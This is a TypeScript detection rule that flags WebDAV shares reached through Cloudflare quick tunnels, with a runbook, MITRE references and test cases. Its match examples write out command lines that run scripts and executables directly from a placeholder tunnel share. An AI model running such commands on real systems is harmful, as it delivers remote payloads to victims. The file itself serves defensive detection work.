import { unionTables } from "../../../defender/tables.ts";
import { all, any, contains, hasWords } from "../../../detect/condition.ts";
import type { Rule } from "../../../detect/rule.ts";

const textColumns = ["ProcessCommandLine", "InitiatingProcessCommandLine", "FolderPath", "InitiatingProcessFolderPath"] as const;

const addressColumns = ["ProcessCommandLine", "InitiatingProcessCommandLine", "RemoteUrl", "FileOriginUrl"] as const;

export const trycloudflareWebdav: Rule = {
	id: "trycloudflare-webdav",
	title: "A file share behind a quick tunnel",
	family: "cloudflared",
	severity: "high",
	set: "recommended",
	attack: ["T1105", "T1204.002", "T1021.002"],
	meaning:
		"A WebDAV share was opened through somebody's quick tunnel. Malware is delivered this way: the share looks like a folder, and its name is free and trusted.",
	tables: unionTables,
	// Behind the host of a share stands `@SSL`, a port or a backslash; behind that of a web address a slash.
	when: any(
		...textColumns.flatMap((column) => [contains(column, ".trycloudflare.com@"), contains(column, ".trycloudflare.com\\")]),
		...addressColumns.map((column) => contains(column, ".trycloudflare.com/DavWWWRoot")),
		all(
			contains("ProcessCommandLine", ".trycloudflare.com"),
			any(contains("ProcessCommandLine", "davclnt"), hasWords("ProcessCommandLine", "use")),
		),
		all(contains("RemoteUrl", ".trycloudflare.com"), contains("InitiatingProcessCommandLine", "WebClient")),
		all(
			contains("AdditionalFields", ".trycloudflare.com"),
			any(contains("AdditionalFields", "WebDAV"), contains("AdditionalFields", "PROPFIND"), contains("AdditionalFields", "DavWWWRoot")),
		),
		all(contains("RegistryKey", ".trycloudflare.com@"), contains("RegistryKey", "MountPoints2")),
		contains("RegistryValueData", ".trycloudflare.com@"),
	),
	runbook: [
		"Look in DeviceProcessEvents of this device, next 1 h, for what ran from the share: its name stands in FolderPath or ProcessCommandLine.",
		"Look in DeviceFileEvents of this device, next 1 h, for files copied from it, by the same InitiatingProcessId.",
		"Ask the account in AccountName what it opened: a mail, a link, an archive?",
	],
	falsePositives: ["Developers who serve WebDAV through a quick tunnel"],
	references: ["https://attack.mitre.org/techniques/T1105/", "https://attack.mitre.org/techniques/T1204/002/"],
	examples: {
		match: [
			{ FileName: "wscript.exe", ProcessCommandLine: 'wscript.exe "\\\\plain-example-words.trycloudflare.com@SSL\\DavWWWRoot\\a.wsf"' },
			{ FileName: "a.exe", FolderPath: "\\\\plain-example-words.trycloudflare.com@SSL\\DavWWWRoot\\a.exe" },
			{ FileName: "python.exe", ProcessCommandLine: "python.exe //plain-example-words.trycloudflare.com@8080/DavWWWRoot/a.py" },
			{
				FileName: "rundll32.exe",
				ProcessCommandLine: "rundll32.exe davclnt.dll,DavSetCookie plain-example-words https://plain-example-words.trycloudflare.com/a",
			},
			{ FileName: "net.exe", ProcessCommandLine: "net use Z: https://plain-example-words.trycloudflare.com/" },
			{
				InitiatingProcessFileName: "svchost.exe",
				InitiatingProcessCommandLine: "svchost.exe -k LocalService -p -s WebClient",
				RemoteUrl: "plain-example-words.trycloudflare.com",
			},
			{
				ActionType: "HttpConnectionInspected",
				AdditionalFields: '{"host":"plain-example-words.trycloudflare.com","method":"PROPFIND"}',
			},
		],
		ignore: [
			{ FileName: "chrome.exe", ProcessCommandLine: "chrome.exe https://plain-example-words.trycloudflare.com/a/b" },
			{ FileName: "curl.exe", ProcessCommandLine: "curl.exe https://plain-example-words.trycloudflare.com/a.txt" },
			{ FileName: "cmd.exe", ProcessCommandLine: "cmd.exe /c copy \\\\files.example.com@SSL\\DavWWWRoot\\a.txt ." },
			{
				InitiatingProcessFileName: "svchost.exe",
				InitiatingProcessCommandLine: "svchost.exe -s Dnscache",
				RemoteUrl: "www.trycloudflare.com",
			},
			{ ActionType: "HttpConnectionInspected", AdditionalFields: '{"host":"plain-example-words.trycloudflare.com","method":"GET"}' },
		],
	},
};
